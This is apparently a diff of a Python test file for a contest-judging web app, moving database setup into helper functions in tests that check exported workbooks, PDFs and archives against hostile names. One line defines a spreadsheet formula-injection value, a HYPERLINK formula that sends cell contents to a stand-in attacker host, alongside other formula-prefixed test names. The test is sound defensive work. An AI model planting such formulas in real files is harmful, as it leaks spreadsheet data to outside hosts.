@@ -16,7 +16,6 @@ import io
 import json
 import os
 import re
-import sqlite3
 import subprocess
 import time
 import zipfile
@@ -25,8 +24,7 @@ import pytest
 from openpyxl import load_workbook
 from starlette.testclient import TestClient
 
-from judging.web.app import create_app
-from tests.conftest import ORGANIZER_KEY
+from tests.helpers import edit_db, make_client
 from tests.test_exports import CID, ORG, pdf_text, run_evening
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
@@ -42,19 +40,15 @@ HOSTILE_JUDGES = {"E1": "=1+2", "E2": "J\x0bV王", "U1": "@王", "U2": "-周\x1f
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory):
     db = tmp_path_factory.mktemp("trust") / "evening.db"
-    with TestClient(create_app(str(db), organizer_key=ORGANIZER_KEY)) as client:
+    with make_client(db, demo=False) as client:
         run_evening(client)
-    con = sqlite3.connect(db)
-    with con:
-        for pid, (name, org, com) in HOSTILE_PROJECTS.items():
-            con.execute("UPDATE projects SET name = ?, organization = ?, community = ? WHERE contest_id = ? AND id = ?",
-                        (name, org, com, CID, pid))
-        for jid, name in HOSTILE_JUDGES.items():
-            con.execute("UPDATE judges SET name = ? WHERE contest_id = ? AND id = ?", (name, CID, jid))
-        con.execute("UPDATE contests SET name = ? WHERE id = ?", ("=决赛\x00（测试场）", CID))
-        con.execute("UPDATE contests SET date = ?, venue = ? WHERE id = ?", (DATE, VENUE, CID))
-    con.close()
-    with TestClient(create_app(str(db), organizer_key=ORGANIZER_KEY)) as client:
+    edit_db(db, *[("UPDATE projects SET name = ?, organization = ?, community = ? WHERE contest_id = ? AND id = ?",
+                   (name, org, com, CID, pid)) for pid, (name, org, com) in HOSTILE_PROJECTS.items()],
+            *[("UPDATE judges SET name = ? WHERE contest_id = ? AND id = ?", (name, CID, jid))
+              for jid, name in HOSTILE_JUDGES.items()],
+            ("UPDATE contests SET name = ? WHERE id = ?", ("=决赛\x00（测试场）", CID)),
+            ("UPDATE contests SET date = ?, venue = ? WHERE id = ?", (DATE, VENUE, CID)))
+    with make_client(db, demo=False) as client:
         client.db = db  # type: ignore[attr-defined]
         yield client
 
@@ -372,7 +366,7 @@ def test_date_and_venue_are_on_the_workbook_and_the_pdf_summary(hostile):
 def test_setup_api_takes_a_checked_date_and_venue(tmp_path):
     from tests.test_exports import setup_body
 
-    with TestClient(create_app(str(tmp_path / "dv.db"), organizer_key=ORGANIZER_KEY)) as client:
+    with make_client(tmp_path / "dv.db", demo=False) as client:
         r = client.post("/api/contests", headers=ORG, json={**setup_body(), "date": DATE, "venue": " 花园社区礼堂 "})
         assert r.status_code == 201, r.text
         assert (r.json()["setup"]["date"], r.json()["setup"]["venue"]) == (DATE, "花园社区礼堂")
@@ -386,10 +380,10 @@ def test_setup_api_takes_a_checked_date_and_venue(tmp_path):
         audit = client.get(f"/api/contests/{CID}/audit/entries", headers=ORG).json()["entries"]
         assert "日期 2026-06-01" in audit[0]["after"], "the change is in the audit trail, in words"
         archive = client.get(f"/api/contests/{CID}/export/archive.json", headers=ORG).content
-    with TestClient(create_app(str(tmp_path / "dv.db"), organizer_key=ORGANIZER_KEY)) as client:
+    with make_client(tmp_path / "dv.db", demo=False) as client:
         setup = client.get(f"/api/contests/{CID}", headers=ORG).json()["setup"]
         assert (setup["date"], setup["venue"]) == ("2026-06-01", "场" * 100), "kept across a restart"
-    with TestClient(create_app(str(tmp_path / "other.db"), organizer_key=ORGANIZER_KEY)) as client:
+    with make_client(tmp_path / "other.db", demo=False) as client:
         r = client.post("/api/contests/import", headers=ORG, content=archive)
         assert r.status_code == 201 and r.json()["setup"]["date"] == "2026-06-01", "and through an archive"
 
@@ -398,13 +392,8 @@ def test_a_database_from_before_the_date_column_opens(tmp_path):
     from judging.storage.store import MIGRATIONS, _statements
 
     db = tmp_path / "v1.db"
-    con = sqlite3.connect(db)
-    for statement in _statements(MIGRATIONS[0]):
-        con.execute(statement)
-    con.execute("PRAGMA user_version = 1")
-    con.commit()
-    con.close()
-    with TestClient(create_app(str(db), organizer_key=ORGANIZER_KEY, demo=True)) as client:
+    edit_db(db, *_statements(MIGRATIONS[0]), "PRAGMA user_version = 1")
+    with make_client(db) as client:
         setup = client.get("/api/contests/c1", headers=ORG).json()["setup"]
         assert (setup["date"], setup["venue"]) == ("", "")
 
